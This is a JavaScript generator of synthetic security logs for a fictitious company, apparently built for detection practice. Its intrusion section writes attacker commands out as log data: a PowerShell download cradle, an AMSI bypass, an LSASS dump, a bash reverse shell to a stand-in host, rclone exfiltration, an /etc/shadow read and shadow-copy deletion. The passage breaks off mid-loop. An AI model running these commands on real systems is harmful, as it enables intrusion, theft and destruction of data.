// Past 400 lines where it grows: two tables, what is normal in a small company and what one intrusion does there.
//
// Writes examples/intrusion.ndjson: forty minutes of logs of a fictitious company, Windows and Sysmon events as NXLog forwards them,
// journald and auditd records of a Linux host, and AWS CloudTrail. The same seed gives the same bytes. Everything in it is invented:
// names under .example, addresses and account numbers reserved for documentation.
import { createHash } from 'node:crypto';
import { mkdirSync, writeFileSync } from 'node:fs';

const SEED = 20_261_124;
const START = Date.UTC(2026, 10, 24, 8, 0, 0);
const MINUTES = 40;
const TARGET = 'examples/intrusion.ndjson';

/** Mulberry32: small, seeded, the same everywhere. */
function random(seed) {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

const next = random(SEED);
const below = (limit) => Math.floor(next() * limit);
const pick = (list) => list[below(list.length)];
const hex = (digits) => Array.from({ length: digits }, () => below(16).toString(16)).join('');
const guid = () => `${hex(8)}-${hex(4)}-4${hex(3)}-a${hex(3)}-${hex(12)}`;
const hashesOf = (name) => {
  const sum = (kind) => createHash(kind).update(name).digest('hex').toUpperCase();
  return `SHA1=${sum('sha1')},MD5=${sum('md5')},SHA256=${sum('sha256')}`;
};

/** Milliseconds from `mm:ss` after the start, with a fraction that differs from event to event. */
function at(clock) {
  const [minutes, seconds] = clock.split(':').map(Number);
  return START + minutes * 60_000 + seconds * 1000 + below(990);
}

const records = [];
let sequence = 41_000;
const add = (ms, record) => records.push({ ms, order: records.length, record });

// ── The company ────────────────────────────────────────────────────────────────────────────────────────────────────────────

const DOMAIN = 'corp.example';
const ADDRESSES = {
  WS01: '10.2.0.51',
  WS02: '10.2.0.52',
  WS03: '10.2.0.53',
  FS01: '10.2.0.20',
  SRV02: '10.2.0.12',
  DC01: '10.2.0.10',
};
const OWNERS = { WS01: 'a.meyer', WS02: 'j.ortiz', WS03: 'adm.k' };
const SERVERS = ['FS01', 'SRV02', 'DC01'];
const SYSTEM = 'NT AUTHORITY\\SYSTEM';
const SYS32 = 'C:\\Windows\\System32\\';
const COMMAND_AND_CONTROL = '203.0.113.44';
const DROP = '203.0.113.80';
const FQDN = (host) => `${host}.${DOMAIN}`;
const LOGON_IDS = new Map();
const logonId = (host, user) => {
  const key = `${host}/${user}`;
  if (!LOGON_IDS.has(key)) LOGON_IDS.set(key, `0x${hex(6)}`);
  return LOGON_IDS.get(key);
};

// ── Shapes of records ─────────────────────────────────────────────────────────────────────────────────────────────────────

const PROVIDERS = {
  Security: ['Microsoft-Windows-Security-Auditing', '{54849625-5478-4994-A5BA-3E3B0328C30D}'],
  System: ['Service Control Manager', '{555908D1-A6D7-4695-8E1E-26931D2012F4}'],
  'Microsoft-Windows-Sysmon/Operational': [
    'Microsoft-Windows-Sysmon',
    '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}',
  ],
  'Microsoft-Windows-PowerShell/Operational': [
    'Microsoft-Windows-PowerShell',
    '{A0C1853B-5C40-4B15-8766-3CF1C58F985A}',
  ],
  'Microsoft-Windows-Windows Defender/Operational': [
    'Microsoft-Windows-Windows Defender',
    '{11CD958A-C507-4EF3-B3F2-5FD9DFBD2C78}',
  ],
};
const EVENTLOG = ['Microsoft-Windows-Eventlog', '{FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148}'];
const clock = (ms) => new Date(ms).toISOString();

/** A Windows event as NXLog's im_msvistalog and to_json() forward it. */
function windows(ms, host, channel, eventId, fields, provider = PROVIDERS[channel]) {
  sequence += 1 + below(4);
  add(ms, {
    EventTime: `${clock(ms).slice(0, -1)}000+00:00`,
    Hostname: FQDN(host),
    SeverityValue: 2,
    Severity: 'INFO',
    EventID: eventId,
    SourceName: provider[0],
    ProviderGuid: provider[1],
    Channel: channel,
    RecordNumber: sequence,
    ...fields,
    EventReceivedTime: `${clock(ms + 900 + below(900)).slice(0, -1)}000+00:00`,
    SourceModuleName: 'eventlog',
    SourceModuleType: 'im_msvistalog',
  });
}

const sysmon = (ms, host, eventId, fields) =>
  windows(ms, host, 'Microsoft-Windows-Sysmon/Operational', eventId, {
    RuleName: '-',
    UtcTime: clock(ms - below(60))
      .replace('T', ' ')
      .slice(0, -1),
    ...fields,
  });

const security = (ms, host, eventId, fields) => windows(ms, host, 'Security', eventId, fields);

/** A process as Sysmon reports its creation; gives what a child needs to know of it. */
function run(ms, host, user, image, commandLine, more = {}) {
  const { parent, original, integrity = 'Medium', description = '-' } = more;
  const name = image.slice(image.lastIndexOf('\\') + 1);
  const child = {
    ProcessGuid: `{${guid()}}`,
    ProcessId: String(2000 + 4 * below(3000)),
    Image: image,
    CommandLine: commandLine,
    User: user,
  };
  sysmon(ms, host, 1, {
    ...child,
    FileVersion: '10.0.22631.4460',
    Description: description,
    Product: description === '-' ? '-' : 'Microsoft® Windows® Operating System',
    Company: description === '-' ? '-' : 'Microsoft Corporation',
    OriginalFileName: original ?? name,
    CurrentDirectory: 'C:\\Windows\\system32\\',
    LogonId: user === SYSTEM ? '0x3e7' : logonId(host, user),
    TerminalSessionId: user === SYSTEM ? '0' : '1',
    IntegrityLevel: user === SYSTEM ? 'System' : integrity,
    Hashes: hashesOf(original ?? name),
    ParentProcessGuid: parent?.ProcessGuid ?? `{${guid()}}`,
    ParentProcessId: parent?.ProcessId ?? '1044',
    ParentImage: parent?.Image ?? 'C:\\Windows\\explorer.exe',
    ParentCommandLine: parent?.CommandLine ?? 'C:\\Windows\\Explorer.EXE',
    ParentUser: parent?.User ?? user,
  });
  return child;
}

const of = ({ ProcessGuid, ProcessId, Image, User }) => ({ ProcessGuid, ProcessId, Image, User });

function connect(ms, host, process, to, port, name = '-') {
  sysmon(ms, host, 3, {
    ...of(process),
    Protocol: 'tcp',
    Initiated: 'true',
    SourceIsIpv6: 'false',
    SourceIp: ADDRESSES[host],
    SourceHostname: FQDN(host),
    SourcePort: String(49_152 + below(16_000)),
    DestinationIsIpv6: 'false',
    DestinationIp: to,
    DestinationHostname: name,
    DestinationPort: String(port),
    DestinationPortName: '-',
  });
}

const wrote = (ms, host, process, file) =>
  sysmon(ms, host, 11, {
    ...of(process),
    TargetFilename: file,
    CreationUtcTime: clock(ms).replace('T', ' ').slice(0, -1),
  });

const setValue = (ms, host, process, key, value) =>
  sysmon(ms, host, 13, { EventType: 'SetValue', ...of(process), TargetObject: key, Details: value });

const asked = (ms, host, process, name, result) =>
  sysmon(ms, host, 22, {
    ...of(process),
    QueryName: name,
    QueryStatus: '0',
    QueryResults: `::ffff:${result};`,
  });

const script = (ms, host, text) =>
  windows(ms, host, 'Microsoft-Windows-PowerShell/Operational', 4104, {
    MessageNumber: '1',
    MessageTotal: '1',
    ScriptBlockText: text,
    ScriptBlockId: guid(),
    Path: '',
  });

function logon(ms, host, user, type, from) {
  security(ms, host, 4624, {
    SubjectUserSid: 'S-1-0-0',
    SubjectUserName: '-',
    SubjectDomainName: '-',
    SubjectLogonId: '0x0',
    TargetUserSid: `S-1-5-21-1004336348-1177238915-682003330-${1100 + (user.length % 60)}`,
    TargetUserName: user,
    TargetDomainName: 'CORP',
    TargetLogonId: logonId(host, user),
    LogonType: String(type),
    LogonProcessName: type === 3 ? 'Kerberos' : 'User32 ',
    AuthenticationPackageName: type === 3 ? 'Kerberos' : 'Negotiate',
    WorkstationName: '-',
    IpAddress: from,
    IpPort: String(49_152 + below(16_000)),
    ElevatedToken: '%%1842',
  });
}

/** journald's export of the Linux host. */
const journal = (ms, program, message, more = {}) =>
  add(ms, {
    __REALTIME_TIMESTAMP: String(ms * 1000 + below(1000)),
    _HOSTNAME: 'web01',
    _TRANSPORT: 'syslog',
    PRIORITY: '6',
    SYSLOG_IDENTIFIER: program,
    _PID: String(900 + below(30_000)),
    _EXE: `/usr/sbin/${program}`,
    MESSAGE: message,
    ...more,
  });

let auditId = 88_120;
/** One record of auditd, key by key. */
function audit(ms, type, fields) {
  auditId += 1 + below(3);
  const msg = `audit(${(ms / 1000).toFixed(3)}:${auditId})`;
  add(ms, { type, msg, node: 'web01', ...fields });
}

const ACCOUNT = '111122223333';
/** One CloudTrail event. */
function cloud(
  ms,
  source,
  name,
  { user, from, agent = 'aws-cli/2.19.1', request = null, response = null, key },
) {
  add(ms, {
    eventVersion: '1.10',
    userIdentity: {
      type: 'IAMUser',
      principalId: `AIDA${hex(16).toUpperCase()}`,
      arn: `arn:aws:iam::${ACCOUNT}:user/${user}`,
      accountId: ACCOUNT,
      accessKeyId: key,
      userName: user,
    },
    eventTime: `${clock(ms).slice(0, 19)}Z`,
    eventSource: `${source}.amazonaws.com`,
    eventName: name,
    awsRegion: 'eu-central-1',
    sourceIPAddress: from,
    userAgent: agent,
    requestParameters: request,
    responseElements: response,
    requestID: guid(),
    eventID: guid(),
    readOnly: /^(?:Get|List|Describe)/.test(name),
    eventType: 'AwsApiCall',
    managementEvent: true,
    recipientAccountId: ACCOUNT,
    eventCategory: 'Management',
  });
}

// ── What is normal ────────────────────────────────────────────────────────────────────────────────────────────────────────

const SVCHOST = { Image: `${SYS32}svchost.exe`, ProcessGuid: `{${guid()}}`, ProcessId: '1188', User: SYSTEM };
const SERVICES = {
  ...SVCHOST,
  Image: `${SYS32}services.exe`,
  ProcessId: '712',
  CommandLine: `${SYS32}services.exe`,
};
const CHROME = 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe';
const EDGE = 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe';
const OFFICE = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\';
const SITES = [
  ['www.wikipedia.org', '198.51.100.21'],
  ['mail.corp-cloud.example', '198.51.100.40'],
  ['news.daily.example', '198.51.100.77'],
  ['crm.vendor.example', '198.51.100.90'],
  ['cdn.vendor.example', '198.51.100.91'],
];
const TASKS = [
  ['taskhostw.exe', 'taskhostw.exe Install $(Arg0)', 'Host Process for Windows Tasks'],
  ['backgroundTaskHost.exe', 'backgroundTaskHost.exe -ServerName:App.AppXmtcan.mca', 'Background Task Host'],
  [
    'SearchProtocolHost.exe',
    'SearchProtocolHost.exe Global\\UsGthrFltPipeMssGthrPipe3',
    'Search Protocol Host',
  ],
  ['wuauclt.exe', 'wuauclt.exe /UpdateDeploymentProvider UpdateDeploymentProvider.dll', 'Windows Update'],
  ['usoclient.exe', 'usoclient.exe StartScan', 'USO Client'],
];
const DESKTOP = [
  [CHROME, `"${CHROME}" --type=renderer --lang=de --num-raster-threads=2`, 'Google Chrome'],
  [EDGE, `"${EDGE}" --type=utility --utility-sub-type=network.mojom.NetworkService`, 'Microsoft Edge'],
  [`${OFFICE}OUTLOOK.EXE`, `"${OFFICE}OUTLOOK.EXE" /recycle`, 'Microsoft Outlook'],
  [`${OFFICE}EXCEL.EXE`, `"${OFFICE}EXCEL.EXE" "H:\\Budget 2027.xlsx"`, 'Microsoft Excel'],
  [`${SYS32}notepad.exe`, 'notepad.exe H:\\notes.txt', 'Notepad'],
];
const UNITS = ['apt-daily.service', 'logrotate.service', 'fwupd-refresh.service', 'man-db.service'];
const SCANNED = ['root', 'admin', 'oracle', 'ubuntu', 'test', 'postgres'];

/** Each draws one everyday happening at a time of its own; the number says how often it is drawn. */
const NORMAL = [
  [52, desktopProgram],
  [44, browse],
  [34, systemTask],
  [46, shareLogon],
  [26, registryChore],
  [22, fileChore],
  [18, serviceState],
  [18, webHostChore],
  [14, sshScan],
  [22, cloudChore],
];

function desktopProgram(ms) {
  const host = pick(['WS01', 'WS02', 'WS03']);
  const [image, line, description] = pick(DESKTOP);
  run(ms, host, `CORP\\${OWNERS[host]}`, image, line, { description });
}

function browse(ms) {
  const host = pick(['WS01', 'WS02', 'WS03']);
  const process = {
    Image: pick([CHROME, EDGE]),
    ProcessGuid: `{${guid()}}`,
    ProcessId: '7448',
    User: `CORP\\${OWNERS[host]}`,
  };
  const [name, address] = pick(SITES);
  if (below(2) === 0) asked(ms, host, process, name, address);
  else connect(ms, host, process, address, 443, name);
}

function systemTask(ms) {
  const [name, line, description] = pick(TASKS);
  const parent = { ...SVCHOST, CommandLine: `${SYS32}svchost.exe -k netsvcs -p -s Schedule` };
  run(ms, pick(Object.keys(ADDRESSES)), SYSTEM, SYS32 + name, line, { parent, description });
}

function shareLogon(ms) {
  const from = pick(['WS01', 'WS02', 'WS03']);
  const host = pick(SERVERS);
  const machine = below(3) !== 0;
  const user = machine ? `${from}$` : OWNERS[from];
  const choice = below(10);
  if (choice < 6) logon(ms, host, user, 3, ADDRESSES[from]);
  else if (choice < 9) {
    security(ms, host, 4634, {
      TargetUserName: user,
      TargetDomainName: 'CORP',
      TargetLogonId: logonId(host, user),
      LogonType: '3',
    });
  } else {
    security(ms, host, 4672, {
      SubjectUserName: `${host}$`,
      SubjectDomainName: 'CORP',
      SubjectLogonId: '0x3e7',
      PrivilegeList: 'SeSecurityPrivilege',
    });
  }
}

function registryChore(ms) {
  const host = pick(Object.keys(ADDRESSES));
  const [key, value] = pick([
    [
      'HKLM\\System\\CurrentControlSet\\Services\\W32Time\\Config\\LastKnownGoodTime',
      'QWORD (0x01db3e43-0x9f2c8a10)',
    ],
    [
      'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WindowsUpdate\\Auto Update\\LastOnline',
      'Binary Data',
    ],
    [
      'HKLM\\System\\CurrentControlSet\\Services\\Tcpip\\Parameters\\Interfaces\\{5c1e}\\LeaseObtainedTime',
      'DWORD (0x6742d8f0)',
    ],
  ]);
  setValue(ms, host, SVCHOST, key, value);
}

function fileChore(ms) {
  const host = pick(['WS01', 'WS02', 'WS03']);
  const user = OWNERS[host];
  const profile = `C:\\Users\\${user}\\AppData\\Local`;
  const [image, file] = pick([
    [CHROME, `${profile}\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\f_00${hex(4)}`],
    [`${OFFICE}WINWORD.EXE`, `C:\\Users\\${user}\\Documents\\~$minutes.docx`],
    [`${SYS32}svchost.exe`, `C:\\Windows\\Prefetch\\CHROME.EXE-${hex(8).toUpperCase()}.pf`],
  ]);
  wrote(
    ms,
    host,
    { Image: image, ProcessGuid: `{${guid()}}`, ProcessId: '6120', User: `CORP\\${user}` },
    file,
  );
}

function serviceState(ms) {
  const [name, state] = pick([
    ['Windows Update', 'running'],
    ['Background Intelligent Transfer Service', 'stopped'],
    ['Windows Modules Installer', 'running'],
  ]);
  windows(ms, pick(Object.keys(ADDRESSES)), 'System', 7036, { param1: name, param2: state });
}

function webHostChore(ms) {
  if (below(2) === 0) {
    journal(ms, 'systemd', `Finished ${pick(UNITS)}.`, { _EXE: '/usr/lib/systemd/systemd' });
  } else {
    audit(ms, 'SYSCALL', {
      arch: 'c000003e',
      syscall: '59',
      success: 'yes',
      exit: '0',
      ppid: '901',
      pid: String(4000 + below(900)),
      auid: '4294967295',
      uid: '0',
      comm: 'logrotate',
      exe: '/usr/sbin/logrotate',
      key: 'exec',
    });
  }
}

function sshScan(ms) {
  const user = pick(SCANNED);
  const from = pick(['198.51.100.201', '198.51.100.202']);
  const unknown = user === 'root' ? '' : 'invalid user ';
  journal(
    ms,
    'sshd',
    `Failed password for ${unknown}${user} from ${from} port ${40_000 + below(20_000)} ssh2`,
    { user, src_ip: from },
  );
}

function cloudChore(ms) {
  const [source, name] = pick([
    ['ec2', 'DescribeInstances'],
    ['s3', 'GetBucketLocation'],
    ['cloudwatch', 'DescribeAlarms'],
    ['ecr', 'DescribeRepositories'],
    ['autoscaling', 'DescribeAutoScalingGroups'],
  ]);
  cloud(ms, source, name, {
    user: 'ci-deploy',
    from: '198.51.100.10',
    agent: 'HashiCorp Terraform/1.9.8',
    key: 'AKIAIOSFODNN7EXAMPLE',
  });
}

function everyday() {
  for (const [times, happen] of NORMAL) {
    for (let i = 0; i < times; i++) happen(START + below(MINUTES * 60_000));
  }
  security(at('2:14'), 'DC01', 4625, {
    TargetUserName: 'j.ortiz',
    TargetDomainName: 'CORP',
    Status: '0xc000006d',
    SubStatus: '0xc000006a',
    LogonType: '3',
    WorkstationName: 'WS02',
    IpAddress: ADDRESSES.WS02,
    IpPort: '51022',
  });
  logon(at('2:25'), 'WS02', 'j.ortiz', 2, '127.0.0.1');
  logon(at('5:02'), 'SRV02', 'adm.k', 10, ADDRESSES.WS03);
  run(at('5:40'), 'SRV02', 'CORP\\adm.k', `${SYS32}ipconfig.exe`, 'ipconfig /all', {
    original: 'ipconfig.exe',
    description: 'IP Configuration Utility',
  });
  journal(
    at('6:10'),
    'sshd',
    'Accepted publickey for deploy from 10.3.0.7 port 40112 ssh2: ED25519 SHA256:9mX0',
    { user: 'deploy', src_ip: '10.3.0.7' },
  );
}

// ── What the intruder does ─────────────────────────────────────────────────────────────────────────────────────────────────

const MEYER = 'CORP\\a.meyer';
const POWERSHELL = `${SYS32}WindowsPowerShell\\v1.0\\powershell.exe`;
const SHELL = { original: 'Cmd.Exe', description: 'Windows Command Processor' };
const STAGE = Buffer.from(
  `IEX (New-Object Net.WebClient).DownloadString('https://${COMMAND_AND_CONTROL}/s')`,
  'utf16le',
).toString('base64');

function intrusion() {
  const beacon = firstFoothold();
  const elevated = takeRootAndLookAround(beacon);
  stealCredentials(elevated);
  moveToFileServer(elevated);
  const shell = onFileServer();
  collectAndSend(shell);
  reachForTheRest(shell);
  destroy(shell);
}

/** A macro document from a download starts PowerShell, which loads a library. */
function firstFoothold() {
  const browser = { Image: CHROME, ProcessGuid: `{${guid()}}`, ProcessId: '5512', User: MEYER };
  const document = 'C:\\Users\\a.meyer\\Downloads\\Invoice 4471.docm';
  asked(at('7:06'), 'WS01', browser, 'files.invoice-portal.example', COMMAND_AND_CONTROL);
  sysmon(at('7:10'), 'WS01', 15, {
    ...of(browser),
    TargetFilename: `${document}:Zone.Identifier`,
    CreationUtcTime: clock(at('7:10')).replace('T', ' ').slice(0, -1),
    Hash: hashesOf('docm'),
    Contents: '[ZoneTransfer]  ZoneId=3  HostUrl=https://files.invoice-portal.example/Invoice%204471.docm',
  });
  const word = run(
    at('7:41'),
    'WS01',
    MEYER,
    `${OFFICE}WINWORD.EXE`,
    `"${OFFICE}WINWORD.EXE" /n "${document}" /o ""`,
    { description: 'Microsoft Word' },
  );
  const stager = run(at('8:02'), 'WS01', MEYER, POWERSHELL, `powershell.exe -nop -w hidden -enc ${STAGE}`, {
    parent: word,
    original: 'PowerShell.EXE',
    description: 'Windows PowerShell',
  });
  script(
    at('8:03'),
    'WS01',
    "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
  );
  connect(at('8:04'), 'WS01', stager, COMMAND_AND_CONTROL, 443);
  script(
    at('8:06'),
    'WS01',
    "$b=(New-Object Net.WebClient).DownloadData('https://203.0.113.44/l');[IO.File]::WriteAllBytes('C:\\ProgramData\\od.dll',$b)",
  );
  wrote(at('8:07'), 'WS01', stager, 'C:\\ProgramData\\od.dll');
  const beacon = run(
    at('8:09'),
    'WS01',
    MEYER,
    `${SYS32}rundll32.exe`,
    'rundll32.exe C:\\ProgramData\\od.dll,Start',
    { parent: stager, original: 'RUNDLL32.EXE', description: 'Windows host process (Rundll32)' },
  );
  for (const time of ['8:11', '9:11', '13:12', '19:14', '27:10'])
    connect(at(time), 'WS01', beacon, COMMAND_AND_CONTROL, 443);
  return beacon;
}

/** Autostart and task; whoami and company; a way around the consent prompt; an exclusion from the antivirus. */
function takeRootAndLookAround(beacon) {
  const runKey =
    'HKU\\S-1-5-21-1004336348-1177238915-682003330-1107\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveSync';
  const reg = run(
    at('9:40'),
    'WS01',
    MEYER,
    `${SYS32}reg.exe`,
    'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v OneDriveSync /d "rundll32 C:\\ProgramData\\od.dll,Start" /f',
    { parent: beacon, original: 'reg.exe', description: 'Registry Console Tool' },
  );
  setValue(at('9:40'), 'WS01', reg, runKey, 'rundll32 C:\\ProgramData\\od.dll,Start');
  const task = 'rundll32.exe C:\\ProgramData\\od.dll,Start';
  run(
    at('10:05'),
    'WS01',
    MEYER,
    `${SYS32}schtasks.exe`,
    `schtasks /create /f /sc hourly /tn "OneDrive Sync" /tr "${task}"`,
    { parent: beacon, original: 'schtasks.exe', description: 'Task Scheduler Configuration Tool' },
  );
  security(at('10:06'), 'WS01', 4698, {
    SubjectUserName: 'a.meyer',
    SubjectDomainName: 'CORP',
    SubjectLogonId: logonId('WS01', MEYER),
    TaskName: '\\OneDrive Sync',
    TaskContent:
      '<Task version="1.2"><Actions Context="Author"><Exec><Command>rundll32.exe</Command><Arguments>C:\\ProgramData\\od.dll,Start</Arguments></Exec></Actions></Task>',
  });
  const looks = [
    ['11:20', 'whoami.exe', 'whoami /all', 'whoami.exe'],
    ['11:32', 'systeminfo.exe', 'systeminfo', 'sysinfo.exe'],
    ['11:50', 'net.exe', 'net group "Domain Admins" /domain', 'net.exe'],
    ['12:08', 'nltest.exe', 'nltest /domain_trusts /all_trusts', 'nltestrk.exe'],
    ['12:20', 'net.exe', 'net view \\\\FS01 /all', 'net.exe'],
    ['12:41', 'NETSTAT.EXE', 'netstat -ano', 'netstat.exe'],
  ];
  for (const [time, name, line, original] of looks) {
    run(at(time), 'WS01', MEYER, SYS32 + name, line, {
      parent: beacon,
      original,
      description: 'Windows tool',
    });
  }
  const handler =
    'HKU\\S-1-5-21-1004336348-1177238915-682003330-1107_Classes\\ms-settings\\shell\\open\\command\\';
  setValue(at('14:30'), 'WS01', beacon, `${handler}(Default)`, task);
  setValue(at('14:30'), 'WS01', beacon, `${handler}DelegateExecute`, '(Empty)');
  const prompt = run(at('14:33'), 'WS01', MEYER, `${SYS32}fodhelper.exe`, `"${SYS32}fodhelper.exe"`, {
    parent: beacon,
    integrity: 'High',
    description: 'Features On Demand Helper',
  });
  const elevated = run(at('14:34'), 'WS01', MEYER, `${SYS32}rundll32.exe`, task, {
    parent: prompt,
    integrity: 'High',
    original: 'RUNDLL32.EXE',
    description: 'Windows host process (Rundll32)',
  });
  run(
    at('15:10'),
    'WS01',
    MEYER,
    POWERSHELL,
    'powershell -c Add-MpPreference -ExclusionPath C:\\ProgramData',
    { parent: elevated, integrity: 'High', original: 'PowerShell.EXE', description: 'Windows PowerShell' },
  );
  windows(at('15:12'), 'WS01', 'Microsoft-Windows-Windows Defender/Operational', 5007, {
    'Product Name': 'Microsoft Defender Antivirus',
    'Old Value': '',
    'New Value': 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\ProgramData = 0x0',
  });
  return elevated;
}

/** The memory of LSASS goes to a file by way of a system library. */
function stealCredentials(elevated) {
  const dumper = run(
    at('18:02'),
    'WS01',
    MEYER,
    `${SYS32}rundll32.exe`,
    `rundll32.exe ${SYS32}comsvcs.dll, MiniDump 724 C:\\ProgramData\\lsass.dmp full`,
    {
      parent: elevated,
      integrity: 'High',
      original: 'RUNDLL32.EXE',
      description: 'Windows host process (Rundll32)',
    },
  );
  sysmon(at('18:02'), 'WS01', 10, {
    SourceProcessGUID: dumper.ProcessGuid,
    SourceProcessId: dumper.ProcessId,
    SourceThreadId: '5120',
    SourceImage: dumper.Image,
    TargetProcessGUID: `{${guid()}}`,
    TargetProcessId: '724',
    TargetImage: `${SYS32}lsass.exe`,
    GrantedAccess: '0x1fffff',
    CallTrace:
      'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\dbgcore.DLL+6ce3|C:\\Windows\\System32\\comsvcs.dll+25b1',
    SourceUser: MEYER,
    TargetUser: SYSTEM,
  });
  wrote(at('18:03'), 'WS01', dumper, 'C:\\ProgramData\\lsass.dmp');
}

/** A stolen service account, a renamed PsExec, and the file server answers. */
function moveToFileServer(elevated) {
  security(at('21:00'), 'WS01', 4648, {
    SubjectUserName: 'a.meyer',
    SubjectDomainName: 'CORP',
    SubjectLogonId: logonId('WS01', MEYER),
    TargetUserName: 'svc_deploy',
    TargetDomainName: 'CORP',
    TargetServerName: 'FS01.corp.example',
    TargetInfo: 'cifs/FS01.corp.example',
    ProcessName: 'C:\\ProgramData\\px.exe',
    IpAddress: '-',
    IpPort: '-',
  });
  const client = run(
    at('21:01'),
    'WS01',
    MEYER,
    'C:\\ProgramData\\px.exe',
    'C:\\ProgramData\\px.exe -accepteula \\\\FS01 -u CORP\\svc_deploy -p ******** -s cmd.exe',
    { parent: elevated, integrity: 'High', original: 'psexec.c', description: 'Execute processes remotely' },
  );
  connect(at('21:02'), 'WS01', client, ADDRESSES.FS01, 445, 'FS01.corp.example');
  logon(at('21:02'), 'FS01', 'svc_deploy', 3, ADDRESSES.WS01);
  const subject = {
    SubjectUserName: 'svc_deploy',
    SubjectDomainName: 'CORP',
    SubjectLogonId: logonId('FS01', 'svc_deploy'),
  };
  security(at('21:03'), 'FS01', 5140, {
    ...subject,
    ObjectType: 'File',
    IpAddress: ADDRESSES.WS01,
    IpPort: '50122',
    ShareName: '\\\\*\\ADMIN$',
    ShareLocalPath: '\\??\\C:\\Windows',
    AccessMask: '0x1',
  });
  security(at('21:03'), 'FS01', 5145, {
    ...subject,
    ObjectType: 'File',
    IpAddress: ADDRESSES.WS01,
    IpPort: '50122',
    ShareName: '\\\\*\\ADMIN$',
    RelativeTargetName: 'PSEXESVC.exe',
    AccessMask: '0x12019f',
    AccessList: '%%4417',
  });
  windows(at('21:04'), 'FS01', 'System', 7045, {
    ServiceName: 'PSEXESVC',
    ImagePath: '%SystemRoot%\\PSEXESVC.exe',
    ServiceType: 'user mode service',
    StartType: 'demand start',
    AccountName: 'LocalSystem',
  });
}

function onFileServer() {
  const service = run(at('21:05'), 'FS01', SYSTEM, 'C:\\Windows\\PSEXESVC.exe', 'C:\\Windows\\PSEXESVC.exe', {
    parent: SERVICES,
    original: 'psexesvc.exe',
    description: 'PsExec Service',
  });
  sysmon(at('21:05'), 'FS01', 17, {
    EventType: 'CreatePipe',
    ...of(service),
    PipeName: '\\PSEXESVC-WS01-6120-stdin',
  });
  return run(at('21:06'), 'FS01', SYSTEM, `${SYS32}cmd.exe`, 'cmd.exe', { parent: service, ...SHELL });
}

/** Two folders under a password, then out with a renamed copy of rclone. */
function collectAndSend(shell) {
  run(at('23:15'), 'FS01', SYSTEM, `${SYS32}whoami.exe`, 'whoami', { parent: shell, original: 'whoami.exe' });
  const rar = run(
    at('24:30'),
    'FS01',
    SYSTEM,
    'C:\\Program Files\\WinRAR\\Rar.exe',
    'rar.exe a -hpQ4-finance -r -v500m C:\\ProgramData\\f.rar D:\\Finance D:\\HR',
    { parent: shell, original: 'Rar.exe', description: 'Command line RAR' },
  );
  for (const part of [1, 2, 3])
    wrote(at(`2${4 + part}:0${part}`), 'FS01', rar, `C:\\ProgramData\\f.part${part}.rar`);
  const sender = run(
    at('28:20'),
    'FS01',
    SYSTEM,
    'C:\\Users\\Public\\svchost.exe',
    'C:\\Users\\Public\\svchost.exe copy C:\\ProgramData store:q4 --include f.part* --config C:\\ProgramData\\r.conf --transfers 8',
    { parent: shell, original: 'rclone.exe', description: 'Rsync for cloud storage' },
  );
  asked(at('28:21'), 'FS01', sender, 'objects.drop-storage.example', DROP);
  for (const time of ['28:22', '29:40', '31:15'])
    connect(at(time), 'FS01', sender, DROP, 443, 'objects.drop-storage.example');
}

/** A key and an access key found in scripts on the share open the web host and the cloud account. */
function reachForTheRest(shell) {
  run(
    at('30:02'),
    'FS01',
    SYSTEM,
    `${SYS32}findstr.exe`,
    'findstr /si password D:\\IT\\*.ps1 D:\\IT\\*.config',
    { parent: shell, original: 'FINDSTR.EXE', description: 'Find String (QGREP) Utility' },
  );
  journal(
    at('31:30'),
    'sshd',
    `Accepted publickey for deploy from ${ADDRESSES.FS01} port 50733 ssh2: ED25519 SHA256:9mX0`,
    { user: 'deploy', src_ip: ADDRESSES.FS01 },
  );
  audit(at('32:05'), 'EXECVE', { argc: '3', a0: 'sudo', a1: 'cat', a2: '/etc/shadow' });
  audit(at('32:05'), 'SYSCALL', {
    arch: 'c000003e',
    syscall: '257',
    success: 'yes',
    exit: '3',
    ppid: '5110',
    pid: '5113',
    auid: '1001',
    uid: '0',
    comm: 'cat',
    exe: '/usr/bin/cat',
    key: 'shadow-read',
  });
  audit(at('32:40'), 'EXECVE', {
    argc: '3',
    a0: 'bash',
    a1: '-c',
    a2: `bash -i >& /dev/tcp/${COMMAND_AND_CONTROL}/443 0>&1`,
  });
  const stolen = {
    user: 'backup-writer',
    from: DROP,
    agent: 'Boto3/1.35.60 Python/3.12',
    key: 'AKIAI44QH8DHBEXAMPLE',
  };
  cloud(at('33:01'), 'sts', 'GetCallerIdentity', stolen);
  cloud(at('33:09'), 's3', 'ListBuckets', stolen);
  cloud(at('33:48'), 'iam', 'CreateAccessKey', {
    ...stolen,
    request: { userName: 'ci-deploy' },
    response: { accessKey: { userName: 'ci-deploy', accessKeyId: 'AKIAEXAMPLE2NEWKEY00', status: 'Active' } },
  });
}

/** Traces, copies and backups go; the notes appear. */
function destroy(shell) {
  const steps = [
    ['34:20', 'net.exe', 'net stop "Veeam Backup Service" /y', 'net.exe'],
    ['35:02', 'wevtutil.exe', 'wevtutil cl Security', 'wevtutil.exe'],
    ['36:10', 'vssadmin.exe', 'vssadmin.exe Delete Shadows /All /Quiet', 'VSSADMIN.EXE'],
    ['36:22', 'wbadmin.exe', 'wbadmin DELETE CATALOG -quiet', 'WBADMIN.EXE'],
    ['36:31', 'bcdedit.exe', 'bcdedit /set {default} recoveryenabled No', 'bcdedit.exe'],
  ];
  for (const [time, name, line, original] of steps) {
